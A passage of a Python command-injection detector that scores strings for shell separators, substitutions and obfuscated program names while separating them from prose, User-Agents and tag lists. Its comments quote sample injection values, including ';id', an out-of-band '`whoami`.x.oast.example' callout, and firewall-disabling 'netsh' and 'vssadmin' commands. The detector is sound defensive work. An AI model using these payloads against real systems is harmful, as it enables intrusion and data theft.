    return glued_left or glued_right  # "|", "||", "&&"


# a User-Agent's product token after a blank: "mozilla/5.0", "curl/7.68.0"
_PRODUCT_TOKEN = re.compile(r"[\s]{1,4}[a-z][a-z0-9._\-]{0,40}/[0-9][a-z0-9._+\-]{0,30}(?:$|[\s])")
# the opening of a User-Agent's comment: "mozilla/5.0 (", "dalvik/2.1.0 (" (a product and its version)
_PRODUCT_COMMENT = re.compile(r"[a-z][a-z0-9._\-]{0,40}/[0-9][a-z0-9._+\-]{0,30} \($")


def _in_product_comment(text: str, at: int) -> bool:
    """``at`` lies inside the first unclosed parenthesis after a product token ("mozilla/5.0 (windows nt
    6.3; touch; rv:11.0)"): its ``;``-separated words are platform tokens, not commands."""
    opening = text.rfind("(", 0, at)
    if opening < 0 or ")" in text[opening:at]:
        return False
    return _PRODUCT_COMMENT.search(text, max(0, opening - 80), opening + 1) is not None


def _glued_brace(text: str, at: int) -> bool:
    """The brace at ``at`` follows a word ("owner{id,name}") or a call on one ("posts.limit(10){id,
    message}"), as in a Graph API field list: bash glues the word in front to every item
    ("ownerid ownername"), and reads no "(" inside a word, so no item runs by its own name."""
    if at == 0:
        return False
    before = text[at - 1]
    if before == ")":
        opening = text.rfind("(", max(0, at - 24), at - 1)
        return opening > 0 and (text[opening - 1].isalnum() or text[opening - 1] == "_") and (
            text[opening + 1 : at - 1].isalnum())
    return before.isalnum() or before == "_"


# the reserved words after which a "(" does open a subshell ("if (id)", "! (x)", "time (sleep 5)")
_SUBSHELL_AFTER = frozenset({"if", "then", "else", "elif", "do", "while", "until", "time", "!", "in"})


def _after_word(text: str, at: int) -> bool:
    """``text[at]`` (a "(") follows a clause of prose: three words or more and no shell syntax
    before it, the last one ending in a letter or digit and no reserved word. (PowerShell does
    evaluate "(...)" in an argument, "iex (whoami)": a command line in front is no prose.)"""
    before = text[:at].rstrip(" \t")
    if not before or not before[-1].isalnum() or any(ch in before for ch in ";|&`$<>\n"):
        return False
    word = before.rsplit(None, 1)[-1]
    return word not in _SUBSHELL_AFTER and len(_PROSE_WORD.findall(before[-200:])) >= 3


def _command_position(text: str, at: int) -> bool:
    """``text[at]`` starts a command: nothing but blanks before it, or a separator."""
    before = text[:at].rstrip(" \t")
    return not before or before[-1] in ";|&(\n{`"


# Markdown's inline code in a sentence ("How do I use `cat` to join two files?"): the prose
# around the backticks, with none of a shell's separators, redirections or expansions
_PROSE_WORD = re.compile(r"[a-z]{2,}(?:'[a-z]{1,2})?")
_SHELL_OUTSIDE = re.compile(r"[;|&<>$\n\r{}\\]")


def _markdown_code(text: str, opener: int) -> bool:
    """The backtick at ``opener`` opens inline code in prose: a word boundary on both sides of
    the span, no shell syntax outside the backtick spans, and four or more words of prose around
    them, one before the span. An injected "`id`" stands alone or glued to a value
    ("127.0.0.1`id`", "`whoami`.x.oast.example"), not inside a sentence."""
    if text.count("`") % 2 or text.count("`") > 8:
        return False
    closer = text.find("`", opener + 1)
    if closer < 0 or closer - opener > 60:
        return False
    before = text[opener - 1 : opener]
    after = text[closer + 1 : closer + 3]
    if before not in ("", " ", "(", '"') or not (after == "" or after[:1] == " " or (after[:1] in ".,?!:)" and after[1:2] in ("", " "))):
        return False
    outside = "".join(text.split("`")[0::2])
    if _SHELL_OUTSIDE.search(outside) is not None:
        return False
    words = _PROSE_WORD.findall(outside)
    lead = _PROSE_WORD.findall(text[:opener])
    return len(words) >= 4 and len(lead) >= 1 and sum(word not in _COMMAND_WORDS for word in words) >= 3


def _after_separator(text: str) -> tuple[float, str, int, int] | None:
    best: tuple[float, str, int, int] | None = None
    count = 0
    backticks = 0
    opener = 0
    for sep in _SEPARATOR.finditer(text):
        count += 1
        if count > 64:
            break
        if sep.group(0) == "`":
            backticks += 1
            if backticks % 2 == 1:
                opener = sep.start()
                if _markdown_code(text, opener):
                    continue  # "what does `ls -la` do?": a sentence quoting a command, not running it
            elif not _command_position(text, opener):
                # backticks pair in order: this one closes a substitution that stands in an
                # argument ("the `select` query"); its output is a word, and the next word an
                # argument. Where the substitution is the command ("`x` id", "``id"), an empty
                # output leaves the word after it to run, so that word is read as a command
                continue
        elif sep.group(0) == "{" and text[sep.start() - 1 : sep.start()] == "{" and "}}" in text[sep.end() : sep.end() + 120]:
            continue  # "{{ $labels.service }}": a template's placeholder (Go, Jinja, Handlebars), no command group
        found = _command_at(text, sep.end(), separator=sep.group(0))
        if found is not None and (best is None or found[0] > best[0]):
            best = (found[0], found[1], sep.start(), found[3])
            if best[0] >= 0.95:
                break
    return best


def _command_at(
    text: str, pos: int, separator: str = "", at_start: bool = False
) -> tuple[float, str, int, int] | None:
    if separator in _WINDOWS_PATH_SEPARATORS and ":" in text[pos : pos + 8]:
        program = _WINDOWS_PROGRAM.match(text, pos)
        if program is not None and _program_no_prose_names(program.group(1)):
            # "&c:\\windows\\system32\\whoami": a program by its absolute Windows path (no ".exe"
            # needed), a name no prose uses
            return (0.9, "cmdi.binary-path", pos, program.end())
    m = _WORD.match(text, pos)
    if m is None:
        return None
    raw = m.group(1)
    if "\\/" in raw:
        raw = raw.replace("\\/", "/")  # ";\\/usr\\/bin\\/id": the shell drops the backslash before "/" (JSON's escape)
        if not raw.startswith("/"):
            return None
    # a separator's word ends at the next separator-ish character
    masked = raw.replace("$()", "\x01\x01\x01").replace("``", "\x01\x01")  # empty substitutions hide nothing
    for stop in (";", "|", "&", "`", ")", "\n"):
        cut = masked.find(stop)
        if cut > 0:
            raw = raw[:cut]
            masked = masked[:cut]
    escaped_newline = raw.find("\\n")
    if escaped_newline > 0 and _command_name(raw[:escaped_newline]) in _COMMAND_WORDS:
        raw = raw[:escaped_newline]  # ";id\\n": a newline written as an escape ends the command
    if not _WORD_START.match(raw) or ("/" in raw and not raw.lstrip("'\"").startswith(("/", "./", "~/", "../"))):
        return None
    if raw[:1] == "." and not raw.startswith(("./", "../")):
        return None  # ".net 4.8", ".env": a dotted name, not a command
    name = _command_name(raw)
    if raw[-1:] == "." and raw[:-1] == name and name in COMMON_WORDS:
        return None  # "Vol. 2 | Greatest Hits", "Ver. 1.2": an abbreviation's period, not a command
    if separator in ("(", "{") and text[: pos - 1].rstrip()[-1:] in (";", "|", "&"):
        # "; (id)", ";{ id; }": a subshell or a command group where a command begins, read like
        # the separator before it (a "(" or "{" in prose or code follows a word)
        separator = ";"
    elif separator == "(" and text[pos - 2 : pos - 1] in (" ", "\t") and _after_word(text, pos - 1):
        # "port 3000 (lsof -i :3000)", "the fix (rm the cache)": a "(" after a word and a blank opens
        # no subshell (bash refuses it there; cmd.exe reads it as a character of an argument)
        return None
    if (separator in (";", "|", "||", "&&", "`", "$(", "\n", "%0a") and raw.startswith("./") and len(raw) >= 3
            and raw[2:3].isalpha() and m.start(1) - pos <= 2
            and not (separator in (";", "&&") and _BUILD_STEPS.fullmatch(text, 0, pos - len(separator)) is not None)):
        # ";./exploit", "|./x.sh": a program of the working directory, run right after a separator
        # (not a build how-to's next step: "cd app && ./gradlew build", "npm ci; ./node_modules/.bin/jest")
        return (0.85, "cmdi.relative-program", pos, m.start(1) + len(raw))
    if name in _LOOKUP_COMMANDS and separator in ("`", "$("):
        return (0.95 if ("`" if separator == "`" else ")") in text[pos : pos + 120] else 0.8, "cmdi.substitution", pos,
                m.start(1) + len(raw))  # "$(which id)": a path looked up to be run
    if separator and separator not in ("(", "{") and raw.startswith(_BIN_DIRS) and len(raw) > 6:
        return (0.9, "cmdi.binary-path", pos, m.start(1) + len(raw))  # ";/bin/ca? ...": a binary by its path
    if separator in _PROBE_SEPARATORS and _token_lead(text, pos - len(separator)):
        tool = _TOOL_SUBCOMMAND.match(text, pos)
        if tool is not None:
            # "admin|docker ps", "1 || kubectl get pods", "x && which python3": a value of one token,
            # then a separator and a container / cloud tool's query or a program looked up
            return (0.9, "cmdi.separator-command", pos, tool.end())
    if separator in ("&&", "||", "`", "$(") and _token_lead(text, pos - len(separator)):
        shown = _HISTORY.match(text, pos)
        if shown is not None:
            return (0.9, "cmdi.separator-command", pos, shown.end())  # "x && history", "a.txt`history`"
    if name not in DISTINCT_COMMANDS and name not in COMMON_WORDS:
        if (separator and separator not in ("(", "{") and len(_CARET.findall(raw)) >= 2
                and len(name) >= 4 and name.replace(".", "").isalpha()):
            # "| c^a^l^c": carets that only cmd.exe drops, between the letters of any program's name
            return (0.85, "cmdi.obfuscated-command", pos, m.start(1) + len(raw))
        if at_start and raw.startswith(_BIN_DIRS) and len(raw) > 6 and _ARG_LIKE.match(text, m.start(1) + len(raw)):
            return (0.85, "cmdi.binary-path", pos, m.start(1) + len(raw))  # "/bin/unxz -c /var/log/x.xz"
        return None
    end = m.start(1) + len(raw)
    rest = text[end : end + 80]
    if rest[:1] in ("=", ":", ".", "-", "_") and not rest.startswith(("-", "..")):
        return None  # a parameter, key or dotted name, not a command
    if name == "file" and separator in ("\n", "\r") and _TRACEBACK_FRAME.match(rest) is not None:
        return None  # '\n  File "views.py", line 44, in get': a frame line of a Python traceback
    inner = raw.strip("{}[](),'\"")
    bare = raw.strip("{}[](),")
    obfuscated = name != inner and (
        bare.count("'") >= 2 or bare.count('"') >= 2 or "\\" in inner or "$" in inner or "``" in raw
        or _CARET.search(inner) is not None
    )  # 'wh'oami, c"a"t: quotes pair around part of the name  # paired quotes or escapes inside a name; a lone apostrophe is English ("i'd")
    if len(name) == 1 and inner[:1] == "\\" and not separator:
        return None  # "\\W+|_": a regex's class escape, not the one-letter "w" behind a backslash
    substitution = separator in ("`", "$(", "${", "<(", ">(")
    if substitution:
        closer = "`" if separator == "`" else ")" if separator != "${" else "}"
        if closer in text[end : end + 120] or not rest.strip():
            return (0.95, "cmdi.substitution", pos, end)
        return (0.8, "cmdi.substitution", pos, end)
    args = (_ARG_LIKE.match(rest) is not None or (rest[:1] in ("<", ">") and _GLUED_REDIRECT.match(rest) is not None)
            or (name in _OWN_OPTIONS and _OWN_OPTIONS[name].match(rest) is not None))
    if args and separator == "(" and name in COMMON_WORDS and _PARENTHESISED_COUNT.match(rest) is not None:
        # "addresses (last 3 years)", "sales (top 10 stores)": a "(" after a word opens no subshell (bash
        # refuses it there); a count and its unit inside a parenthesis are prose
        args = False
    if name in _NAMED_IN_PROSE and _RUNTIME_VERSION.match(rest) is not None and _IPV4_ARG.match(rest) is None:
        return None  # "; Python (3.11.6)", "; python 3.11.6": a runtime and its version, as SDKs' User-Agents name them
    if args and name in _NAMED_IN_PROSE and _VERSION_ARG.match(rest) is not None and _IPV4_ARG.match(rest) is None:
        args = False  # "python 3 tutorial", "java 8", "gcc 12.2": a tool and its version, named in prose
    if not args and name in _TOOL_PREFIXES:
        after = _WORDS.match(rest.lstrip())  # "busybox id", "nohup whoami": a tool that runs the next word
        args = after is not None and after.group(0) in _COMMAND_WORDS
    elif not args and name in ("call", "start") and separator in ("&", "|", "||", "&&", "\n"):
        after = _WORDS.match(rest.lstrip())  # "& call whoami", "& start cmd": cmd.exe running a program
        word = after.group(0) if after is not None else ""
        # (or a program named by variables: "& set x=who& set y=ami& call %x%%y%")
        args = (word in _SHELLS or word in _DEMO_PROGRAMS or _program_no_prose_names(word)
                or _CMD_VARIABLES.match(rest.lstrip()) is not None)
    elif not args and name in _PREFIXES and separator in (";", "|", "||", "&&", "&", "\n", "`", "$("):
        after = _WORDS.match(rest.lstrip())  # "; time whoami", "| watch netstat": a prefix running a program
        if name in ("exec", "builtin", "command") and after is not None and after.group(0) in DISTINCT_COMMANDS and (
                after.group(0) not in _SECOND_PREFIXES):
            # "; exec id": the builtin that replaces the shell with its argument, "; command id" the one
            # that runs it bypassing functions; a program no sentence names after it ("exec summary" is prose)
            args = True
        elif after is not None and after.group(0) in _SECOND_PREFIXES:
            # "; builtin eval id", "; command exec whoami": a second prefix (no sentence says that)
            # before the program, which may be a word ("id")
            after = _WORDS.match(rest.lstrip()[after.end() :].lstrip())
            args = after is not None and after.group(0) in _COMMAND_WORDS
        else:
            args = after is not None and (_program_no_prose_names(after.group(0)) or (
                # "; time id": a value that opens with the separator, then a prefix and a short probe
                after.group(0) in _BARE_AMP_COMMANDS and not text[: pos - len(separator)].strip()))
    elif not args and name in ("powershell", "pwsh"):
        after = _WORDS.match(rest.lstrip())  # "powershell whoami": the shell given a program to run
        args = after is not None and after.group(0) in DISTINCT_COMMANDS and after.group(0) not in _NAMED_IN_PROSE
    elif not args and name in ("eval", "exec") and separator and not substitution:
        # ";eval id", "|exec whoami": the builtins that run their argument as a command; the next word
        # must be a binary no prose uses ("eval test results" passes)
        after = _WORDS.match(rest.lstrip())
        args = after is not None and after.group(0) in DISTINCT_COMMANDS and after.group(0) not in ("eval", "exec")
    ends = (not rest.strip() or rest.lstrip()[:1] in (";", "|", "&", "#", "`", ")", "'", '"')
            or rest.startswith(("\\n", "%0a", "%0d"))  # ";id\\n", "id%0a": a newline, escaped or encoded
            # "x\nwhoami\ny": a line of its own holding a program no prose names
            or (rest[:1] in ("\n", "\r") and _program_no_prose_names(name)))
    prose = _PROSE_FOLLOW.match(rest) is not None and not args
    if name in _NAMED_IN_PROSE and raw == name and rest.lstrip()[:1] == "&" and rest.lstrip()[1:2] != "&":
        joined = _AMP_WORDS.fullmatch(rest)
        if joined is not None and (joined.group(1) not in _COMMAND_WORDS or joined.group(1) in _NAMED_IN_PROSE):
            return None  # "Java & Go", "| Python & Go developer": languages or tools named in a list
    if (separator == ";" and not args and rest.lstrip()[:1] in (";", ")")
            and _in_product_comment(text, pos - len(separator))):
        return None  # "Mozilla/5.0 (Windows NT 6.3; Touch; rv:11.0)": a platform token of a User-Agent
    if obfuscated and (at_start or separator):
        return (0.9, "cmdi.obfuscated-command", pos, end)  # quotes or empty expansions inside a command name
    if name in COMMON_WORDS:
        lead = text[: pos - len(separator)].rstrip()
        if (name in ("echo", "printf") and separator in (";", "|", "||", "&&", "&", "\n") and rest.strip()
                and (not lead or lead[-1] in "'\"")):
            # "|echo vulnerable", 'x" ; echo vulnerable#': a value that opens with a separator, or
            # closes a quote before one, then prints
            return (0.85, "cmdi.separator-command", pos, end)
        if name in ("echo", "printf") and _echo_marker(text, pos, separator, lead, rest):
            return (0.85, "cmdi.separator-command", pos, end)
        if prose:
            return None
        if separator in ("(", "{", "then", "do") and not args:
            return None
        if separator in (";", "&", "|", "&&", "||") and not lead and (
                not (separator == "|" and text.count("|") >= 3)) and (
                not rest.strip() or rest.lstrip()[:1] in (";", "|", "&")):
            # the value opens with a separator and a command ("& ver", ";echo vulnerable", "&set"): it
            # ends whatever command it was pasted into; ordinary values do not start with one
            return (0.85, "cmdi.opening-separator", pos, end)
        if (separator in (";", "&", "|", "&&", "||") and not lead and name in _BARE_AMP_COMMANDS and raw == name
                and _PRODUCT_TOKEN.match(rest) is not None
                and text.split("(", 1)[0].count(separator[0]) == len(separator)):
            # ";id Mozilla/5.0 (...)", "& dir curl/7.68.0": the value's one separator (a product
            # comment's aside) opens it, before a command of the short probe set, and the header's
            # own product token follows
            return (0.85, "cmdi.opening-separator", pos, end)
        if separator == "&" and not args and rest.strip() == "&" and pos >= 2 and text[pos - 2].isalnum():
            return (0.85, "cmdi.background-command", pos, end)  # "a&id&": run in the background, value ends
        if separator in ("&",) and not args:
            if ends and name in _BARE_AMP_COMMANDS and _bare_amp(text, pos):
                return (0.85, "cmdi.separator-command", pos, end)  # "&id", "& ver", "a&dir&"
            return None
        if separator == "|" and not args and text.count("|") >= 3:
            return None  # "event|type|init|...": a pipe-delimited record, not a pipeline
        if (not args and not rest.strip() and name not in _BARE_AMP_COMMANDS and name not in _LONE_RECON
                and separator in (";", "|", "&&", "||")
                and text[pos : pos + 1] == " "
                and (separator == ";" or text[pos - len(separator) - 1 : pos - len(separator)] == " ")):
            head = lead.rsplit(None, 1)[-1] if lead else ""
            if (head.isalpha() and (head in COMMON_WORDS or (separator == ";" and " " in lead.strip()))
                    and head not in _BARE_AMP_COMMANDS):
                # "more | less", "date && time", '"quoted" text; more': two ordinary words joined, or
                # a clause and a last word (a probe names its target: "127.0.0.1 ; who", "x | id")
                return None
            if separator == "|" and name not in _PROBE_ENDINGS:
                return None  # "dogs | fish", "Home | Help": the last item of a list, a word no probe ends with
        if separator in ("&&", "||") and not prose:
            return (0.9, "cmdi.separator-command", pos, end)  # "127.0.0.1 && net user"
        spaced = pos >= 2 and text[pos - 2 : pos - 1] == " " and rest[:1] == " "
        if spaced:
            lead = text[: max(0, pos - len(separator) - 1)].rstrip()
            # '" ; id ; "', "') ; id ; ('": a quote (and a call) closed, then a command
            spaced = bool(lead) and lead.rstrip(")")[-1:] not in ("'", '"')
        if spaced and rest.strip() != "#" and (not args or rest.lstrip()[:1] in ("|", "&", ";")):
            return None  # "cleaner & more | west marine": a word between spaced separators is prose
        if separator == ";" and text[pos : pos + 1] == " " and lead[-1:].isalpha():
            conjunction = _CONJUNCTION.match(rest)
            if conjunction is not None and conjunction.group(1) not in _COMMAND_WORDS:
                return None  # "cat and dog; fish & chips": a clause after a semicolon, joined by "&"
            if name not in _TIMING_PROBES and _MEASURE_THEN_WORDS.match(rest) is not None:
                return None  # "repairs done; last 0.3 mi is steep": a clause that gives a measure
        if at_start and not args:
            return None
        if args or ends or obfuscated:
            glued = separator == "|" and pos >= 2 and text[pos - 2].isalpha() and not args and len(name) >= 4
            if glued:
                return (0.45, "cmdi.separator-command", pos, end)  # "account creation|start"
            return (0.9 if separator in (";", "|", "||", "&&", "\n", "%0a") else 0.8, "cmdi.separator-command", pos, end)
        return None
    if (prose and separator in (";", "&", "|", "&&", "||") and not text[: pos - len(separator)].strip()
            and _program_no_prose_names(name)):
        # "& netsh advfirewall set allprofiles state off", "; systeminfo for the host": a value that
        # opens with a separator and a program no sentence names, whatever words follow (its verbs)
        return (0.85, "cmdi.opening-separator", pos, end)
    if prose and separator in ("&", "(", "{", "then", "do"):
        return None
    if at_start:
        if obfuscated:
            return (0.9, "cmdi.obfuscated-command", pos, end)
        if not args and (
                (name not in _DEV_TOOLS and _LATER_OPTION.match(rest) is not None)
                or (name not in _NAMED_IN_PROSE and _GLUED_SEPARATOR.match(rest) is not None)
                or (name not in _NAMED_IN_PROSE and _TRAILING_SEPARATOR.fullmatch(rest) is not None)):
            args = True  # "ansible all -m ping", "whoami;x", "whoami|" (the application appends the rest)
        if args and _NUMBER_THEN_WORDS.fullmatch(rest) is not None:
            return None  # "ls 460 lexus", "sh 12 bus route": a model number or a route, then words
        if args and rest.lstrip()[:1] == "&" and (name in COMMON_WORDS or name in _ENGLISH_COMMANDS or len(name) <= 2):
            joined = _AMP_WORDS.fullmatch(rest)
            if joined is not None and joined.group(1) not in _COMMAND_WORDS:
                return None  # "touch & go", "Ls & Ms": two words joined by "&", neither a program only (not "whoami & go")
        if (args and (name in _NAMED_IN_PROSE or name in _DEV_TOOLS) and raw == name
                and _VERSION_QUERY.fullmatch(rest) is not None):
            return None  # "perl -v", "python --version", "java -version": a developer's question, not a command
        if args and name in _NAMED_IN_PROSE and raw == name and _API_NAME_THEN_WORDS.fullmatch(rest) is not None:
            return None  # "python time.sleep not working", "java string.format example": a search about an API
        if (args and name in _NAMED_IN_PROSE and raw == name and rest.lstrip()[:1] in ("|", ";")
                and _tag_list(text, rest.lstrip()[0])):
            return None  # "Python | Django | Flask", "java; spring; hibernate": a list of tags that opens with one
        return (0.85, "cmdi.command", pos, end) if args else None  # a lone word is not a command line
    if not (args or ends or obfuscated):
        if (separator in (";", "|", "||", "&&", "&") and name not in _NAMED_IN_PROSE and name not in _ENGLISH_COMMANDS
                and not prose and _WORDS.match(rest.lstrip()) is not None
                and not (separator == "&" and not _bare_amp(text, pos) and text[: pos - 1].strip())):
            # "& vssadmin list shadows", ";systemctl status sshd": a program no prose names, then its verb
            return (0.85, "cmdi.separator-command", pos, end)
        return None if separator in ("(", "{", "\n", "\r") else (0.45, "cmdi.separator-command", pos, end)
    if separator == "(" and not args and name in _NAMED_IN_PROSE and rest.lstrip()[:1] == ")":
        return None  # "Software Engineer (Python)", "coffee (java)": a language or tool named in parentheses
    if separator == "{" and not args and name in _NAMED_IN_PROSE and (raw.endswith("}") or rest.lstrip()[:1] == "}"):
        return None  # "{python}", "${java}": a placeholder; a bash group needs "{ cmd; }"
    if (not args and name in _SHELLS and separator in (";", "|", "||", "&&", "&") and not rest.strip()
            and not text[: pos - len(separator)].strip()):
        return (0.9, "cmdi.separator-command", pos, end)  # "|bash", "; sh": a value that pipes into a shell
    if not args and name in _NAMED_IN_PROSE:
        return (0.45, "cmdi.separator-command", pos, end)  # "Python|Java", "python;java;ruby": a list of tags
    if name in _NAMED_IN_PROSE and separator in ("|", ";") and rest.lstrip()[:1] == separator and _tag_list(text, separator):
        return (0.45, "cmdi.separator-command", pos, end)  # "Python | Java | Go": the next tag is no argument
    return (0.95, "cmdi.separator-command", pos, end)


_TAG = re.compile(r"[a-z0-9+#.\- ]{1,30}")


def _tag_list(text: str, separator: str) -> bool:
    """``text`` is a short list of plain words split by ``separator`` ("Python | Java | Go"), none
    of them a command but one prose names ("whoami | Python | Java" is a probe in front)."""
    parts = text.split(separator)
    return 2 <= len(parts) <= 16 and all(
        _TAG.fullmatch(part) is not None and part.strip()
        and (part.strip() in _NAMED_IN_PROSE or part.split()[0] not in _COMMAND_WORDS) for part in parts)


def features(text: str) -> dict[str, float]:
    return {
        "shell.separators": float(len(_SEPARATOR.findall(text))),
        "shell.strong": float(_STRONG.search(text) is not None),
        "shell.code": float(_CODE.search(text) is not None),
        "shell.evidence": max((h.score for h in scan(text)), default=0.0),
    }
